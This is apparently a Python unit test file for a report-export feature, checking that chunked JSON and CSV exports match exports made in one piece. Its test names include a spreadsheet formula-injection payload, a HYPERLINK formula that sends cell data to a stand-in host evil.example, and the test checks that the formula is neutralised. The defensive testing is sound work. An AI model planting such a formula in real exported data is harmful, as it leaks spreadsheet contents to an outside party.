"""The exports served in chunks are byte for byte the JSON and CSV made in one piece (`as_json`, `as_csv`), whatever
the chunk size: the open items serialized apart (domain/report_export.py), the head and tail around them here."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta

import pytest

from bridge.domain.model import ChannelId
from bridge.domain.report import ALL, Report, build_report
from bridge.domain.report_access import Grant
from bridge.domain.report_export import exported
from bridge.domain.suggest import DeflectionSummary
from bridge.entrypoints.report_formats import CSV_TABLES, as_csv, as_json, csv_body, json_body
from bridge.services.reports import ReportLink, ReportView
from tests.unit.test_report import POLICY, at, task

NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    'Café ☕ — naïve "quotes", commas\nand a new line',
    "-negative",
    "\u2028 line separator and \\ backslash",
    "Plain question",
)


def report(open_tasks: int) -> Report:
    tasks = [
        task(n, f"2026-11-{2 + n % 27:02d} 10:00")._replace(name=NAMES[n % len(NAMES)], assignee=f"@person {n % 3}")
        for n in range(open_tasks)
    ]
    return build_report(tasks, policy_of=lambda _: POLICY, now=at("2026-11-30 11:00"), calendar=POLICY, weeks=4)


def view_of(found: Report) -> ReportView:
    links = (ReportLink("T1-C1", "Intake ☕", ChannelId("C1")), ReportLink("T1-C2", "=Other", ChannelId("C2")))
    return ReportView(found, links, ALL, Grant(ALL))


DEFLECTIONS = DeflectionSummary(suggested=4, accepted=2, rejected=1, saved=timedelta(hours=3))


@pytest.mark.parametrize("size", [1, 2, 7, 1_000])
@pytest.mark.parametrize(("open_tasks", "deflections"), [(0, None), (1, None), (23, None), (23, DEFLECTIONS)])
def test_the_json_export_is_the_json_made_in_one_piece(
    size: int, open_tasks: int, deflections: DeflectionSummary | None
) -> None:
    whole = replace(report(open_tasks), deflections=deflections)
    assert len(whole.open_items) == open_tasks
    export = exported(whole, "json", size=size)
    body = b"".join(json_body(view_of(export.report), export))
    assert body == json.dumps(as_json(view_of(whole))).encode("utf-8")


@pytest.mark.parametrize("size", [1, 2, 7, 1_000])
@pytest.mark.parametrize("open_tasks", [0, 1, 23])
def test_every_csv_table_is_the_csv_made_in_one_piece(size: int, open_tasks: int) -> None:
    whole = report(open_tasks)
    export = exported(whole, "csv", size=size)
    for table in CSV_TABLES:
        body = b"".join(csv_body(view_of(export.report), table, export if table == "open" else None))
        assert body == as_csv(view_of(whole), table).encode("utf-8"), table
    assert b"'=HYPERLINK" in b"".join(export.items) or open_tasks == 0  # neutralised in the chunks too
